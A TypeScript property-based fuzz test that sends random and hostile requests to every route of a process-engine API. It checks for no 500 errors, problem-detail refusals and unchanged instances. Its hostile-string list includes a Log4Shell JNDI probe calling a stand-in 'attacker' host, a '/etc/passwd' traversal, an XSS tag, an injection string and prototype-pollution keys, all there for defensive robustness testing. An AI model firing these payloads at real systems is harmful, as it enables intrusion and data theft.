import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FINAL_BATCH_STATES } from '#domain/batch/batch-operation.ts';
import { apiRoutes } from '#resources/api-routes.ts';
import { apiClient } from '../helpers/api-client.ts';
import { type EmbeddedRuntime, startRuntime } from '../helpers/embedded-runtime.ts';
import { validFilter } from '../helpers/filter-arbitraries.ts';

/**
 * Random and hostile requests to every route of the API (functions/resources/api-routes.ts) on the
 * embedded runtime: none is answered with a 500 or anything but a problem detail when refused, no
 * batch is left half made, and no process instance changes.
 */
let runtime: EmbeddedRuntime;
let api: ReturnType<typeof apiClient>;

const INSTANCES = 6;

beforeAll(async () => {
  runtime = await startRuntime({ port: 0, config: { SHARD_COUNT: '2' }, pollIntervalMs: 100 });
  api = apiClient(runtime.url);
  const deployed = await api.deploy(['e2e-order.bpmn']);
  const processDefinitionKey = deployed.body.deployments[0].processDefinition.processDefinitionKey;
  for (let index = 0; index < INSTANCES; index++) {
    // A long text: what a backtracking `$like` would take exponential time over.
    await api.post('/v2/process-instances', {
      processDefinitionKey,
      variables: { index, text: 'a'.repeat(2000) },
    });
  }
});
afterAll(() => runtime?.stop());

/** Every instance as a client sees it: what a batch or a command would change. */
async function instancesSnapshot(): Promise<string[]> {
  const { body } = await api.post('/v2/process-instances/search', {
    sort: [{ field: 'processInstanceKey' }],
    page: { limit: 100 },
  });
  return body.items.map((item: Record<string, unknown>) =>
    JSON.stringify([
      item.processInstanceKey,
      item.state,
      item.endDate,
      item.hasIncident,
      item.processDefinitionKey,
    ]),
  );
}

const HOSTILE_STRINGS = [
  "x') OR attribute_exists(pk) OR ('",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4Shell probe, not a template
  '${jndi:ldap://attacker/x}',
  '\u0000\u0001\u007f',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  '*'.repeat(300),
  'ä'.repeat(1001),
  '-1',
  '1e309',
  '99999999999999999999999999',
  '',
  ' ',
  // $like patterns that backtrack exponentially in a regular expression (issue 31).
  '*a*a*a*a*a*a*a*a*a*b',
  '*?*?*?*?*?*?*?*?*?*b',
  '\\*a*\\?a*a*a*a*a*a*a*a*a*a*b',
  // Names every JavaScript object has, as variable names and keys.
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
];

/** A path parameter: never the key of an instance of this runtime (its keys start at 2^51). */
const pathValue = fc.oneof(
  fc.constantFrom('1', '42', '9223372036854775807', 'cancellation', 'migration', 'nope'),
  fc.constantFrom(...HOSTILE_STRINGS.filter((value) => value.trim() !== '')),
  fc.string({ minLength: 1, maxLength: 30 }),
);

const hostileString = fc.oneof(fc.constantFrom(...HOSTILE_STRINGS), fc.string({ maxLength: 50 }));
const nested = (depth: number): unknown => (depth === 0 ? 'deep' : { $or: [nested(depth - 1)] });

/** A filter Camunda's schema may accept, one that breaks a limit or a pattern, or nonsense. */
const hostileFilter = fc.oneof(
  validFilter,
  hostileString.map((value) => ({ processDefinitionId: value })),
  hostileString.map((value) => ({ processDefinitionId: { $like: value } })),
  fc.integer({ min: 4990, max: 5010 }).map((count) => ({
    processInstanceKey: { $in: Array.from({ length: count }, (_, index) => String(index + 1)) },
  })),
  fc.integer({ min: 1, max: 40 }).map(nested),
  fc.array(fc.record({ name: hostileString, value: hostileString }), { maxLength: 120 }).map((variables) => ({
    variables,
  })),
  fc
    .tuple(fc.constantFrom('text', 'index', '__proto__', 'constructor'), hostileString)
    .map(([name, like]) => ({ variables: [{ name, value: { $like: like } }] })),
  fc.jsonValue({ maxDepth: 4 }),
);

/** A request body: random JSON, or a request-shaped object with hostile parts. */
const hostileBody = fc.oneof(
  fc.constant(undefined),
  fc.jsonValue({ maxDepth: 5 }),
  fc.record(
    {
      filter: hostileFilter,
      processInstanceKeys: fc.array(hostileString, { maxLength: 5 }),
      page: fc.record({
        limit: fc.integer({ min: -5, max: 20_000 }),
        from: fc.integer({ min: -5, max: 20 }),
      }),
      sort: fc.jsonValue({ maxDepth: 2 }),
      variables: fc.dictionary(hostileString, fc.jsonValue({ maxDepth: 3 }), { maxKeys: 5 }),
      migrationPlan: fc.jsonValue({ maxDepth: 3 }),
      retries: fc.integer({ min: -5, max: 100 }),
      itemsPerSecond: fc.double(),
    },
    { requiredKeys: [] },
  ),
);

const request = fc.record({
  route: fc.constantFrom(...apiRoutes),
  parameter: pathValue,
  body: hostileBody,
  idempotencyKey: fc.option(
    hostileString.filter((value) => /^[\x20-\x7e]*$/.test(value)),
    { nil: undefined },
  ),
});

describe('hostile requests to every route (property)', () => {
  it('never answers 500, answers every refusal as a problem detail, and changes no instance', async () => {
    const before = await instancesSnapshot();
    expect(before).toHaveLength(INSTANCES);
    await fc.assert(
      fc.asyncProperty(request, async ({ route, parameter, body, idempotencyKey }) => {
        const path = route.path.replace(/\{\w+\}/g, encodeURIComponent(parameter));
        const response = await api.call(
          route.method,
          path,
          route.method === 'GET' ? undefined : body,
          idempotencyKey ? { 'Idempotency-Key': idempotencyKey } : {},
        );
        expect(response.status, `${route.method} ${path}`).toBeLessThan(500);
        if (response.status >= 400) expect(response.contentType).toBe('application/problem+json');
      }),
      { numRuns: 250, seed: 13 },
    );
    // A batch a random request did create names no instance of this runtime, so it ends and changes nothing.
    const { body } = await api.post('/v2/batch-operations/search', { page: { limit: 100 } });
    for (const { batchOperationKey } of body.items) {
      const batch = await api.finalBatch(batchOperationKey);
      expect(FINAL_BATCH_STATES).toContain(batch.state);
      expect(batch.operationsCompletedCount + batch.operationsFailedCount).toBe(batch.operationsTotalCount);
    }
    expect(await instancesSnapshot()).toEqual(before);
  });
});
